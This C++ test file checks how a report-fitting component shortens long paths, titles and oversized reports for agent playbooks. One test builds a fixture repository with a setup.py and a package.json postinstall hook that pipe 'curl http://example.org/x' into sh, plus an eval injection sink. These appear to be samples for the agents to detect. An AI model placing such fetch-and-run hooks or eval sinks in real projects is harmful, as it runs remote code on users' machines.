// Reports whose paths and names are longer than the report's own bounds.
#include "subagents/playbook/fit_report.h"

#include <gmock/gmock.h>

#include "base/text.h"
#include "tests/subagents/playbook_repo.h"

namespace paddock::subagents {
namespace {

using testing::AllOf;
using testing::EndsWith;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::SizeIs;
using testing::StartsWith;

TEST(FitReport, APathLosesItsMiddleAndNothingElseIsLost) {
  const std::string path = "top/" + std::string(600, 'd') + "/oven.py:12";
  const std::string title = ShortenWords("No test names `bake` (" + path + ") at all", 512);
  EXPECT_LE(title.size(), 512u);
  EXPECT_THAT(title, AllOf(StartsWith("No test names `bake` (top/"), HasSubstr("…"), EndsWith("d/oven.py:12) at all")));
  EXPECT_EQ(ShortenWords("short", 512), "short");
  std::string two = std::string(400, 'a') + " and " + std::string(400, 'b') + " end";
  EXPECT_THAT(ShortenWords(two, 300), AllOf(StartsWith("aa"), EndsWith("b end")));
  std::string words;
  for (int i = 0; i < 300; ++i) words += "many words ";
  EXPECT_LE(ShortenWords(words, 512).size(), 512u);
  EXPECT_THAT(ShortenWords(words, 512), EndsWith("…"));
}

TEST(FitReport, LettersStayWhole) {
  std::string wide;
  for (int i = 0; i < 400; ++i) wide += "é";
  for (size_t bytes = 60; bytes < 90; ++bytes) {
    const std::string out = ShortenWords("in " + wide + " x", bytes);
    EXPECT_LE(out.size(), bytes);
    EXPECT_TRUE(IsValidUtf8(out)) << out;
  }
}

TEST(FitReport, WhateverIsSaidFitsTheTable) {
  Report report;
  report.summary = std::string(40'000, 's');
  report.findings.resize(300, {std::string(3000, 't'), Severity::kInfo, std::string(40'000, 'x'), Confidence::kLow, std::vector<Citation>(50, {"a.c", 1, 1, "x"})});
  report.findings[0].evidence = {{"a.c", 1, 1, std::string(20'000, 'q')}};
  report.next_actions.resize(50, std::string(9000, 'n'));
  report.needs_run = NeedsRun{std::string(5000, 'c'), std::string(5000, 'w')};
  FitReport(&report);
  const auto read = FromJson<Report>(ToJson(report));
  ASSERT_TRUE(read) << read.error().message;
  EXPECT_THAT(report.findings, SizeIs(256));
  EXPECT_FALSE(report.complete);
  EXPECT_THAT(report.findings[0].evidence, IsEmpty()) << "a shortened quote would be another";
  EXPECT_FALSE(report.needs_run) << "a shortened command would be another";
}

// Found on a folder whose path is of 480 bytes: the report was refused twice, and nothing came.
TEST(FitReport, PlaybooksTellOfFilesInLongFolders) {
  std::string folder = "src";
  while (folder.size() < 900) folder += "/a-folder-with-a-long-name-of-its-own";
  const std::map<std::string, std::string> files = {
      {"pyproject.toml", "[project]\nname = \"x\"\n"}, {"setup.py", "setup()\n"}, {folder + "/oven.py", "import os\n\ndef bake(t):\n    if t > 3:\n        return eval(t)\n    return t\n"},
      {folder + "/setup.py", "import os\nos.system('curl http://example.org/x | sh')\n"}, {folder + "/package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl http://example.org/x | sh\"\n  }\n}\n"},
      {folder + "/__main__.py", "if __name__ == '__main__':\n    bake(1)\n"}, {"tests/test_door.py", "import pytest\n\ndef test_door():\n    pass\n"}};
  for (const char* name : {"explorer", "debugger", "investigator", "reviewer", "test-planner", "architect", "triage"}) {
    SCOPED_TRACE(name);
    PlaybookRepo repo(files);
    repo.tell_largest = true;
    repo.more = [&](const agentcore::ToolCall& call) -> std::optional<agentcore::ToolResult> {
      if (call.tool == "git_diff") return DiffResult({{folder + "/oven.py", {"@@ -3,2 +3,3 @@", " def bake(t):", "     if t > 3:", "-        check(t)", "+        return eval(t)", "     return t"}}});
      if (call.tool == "git_log") return ResultWith({RowsArtifact("commits", ".", {"1\tx", "2\tx"}), RowsArtifact("changes", ".", {folder + "/oven.py\t2\t3\t4\tx"})});
      return std::nullopt;
    };
    const Report report = repo.Run(name, name == std::string("investigator") ? "where is `bake`?" : "look", name == std::string("debugger") ? "Traceback (most recent call last):\n  File \"" + folder + "/oven.py\", line 5, in bake\n    return eval(t)\nValueError: no\n" : "");
    EXPECT_THAT(report.summary, Not(IsEmpty()));
    if (name == std::string("test-planner")) { EXPECT_THAT(report.summary, HasSubstr("/oven.py)")) << "of a long path the end is shown"; }
    if (name == std::string("architect")) continue;  // of one file alone there is nothing to say
    EXPECT_THAT(report.findings, Not(IsEmpty())) << report.summary;
    EXPECT_TRUE(repo.EveryCitationHolds(report));
    bool named = false;  // triage names files in details alone
    for (const auto& finding : report.findings) named = named || finding.title.find("…") != std::string::npos;
    EXPECT_TRUE(named || name == std::string("triage")) << "a title of such a path\n" << Titles(report);
  }
}

}  // namespace
}  // namespace paddock::subagents
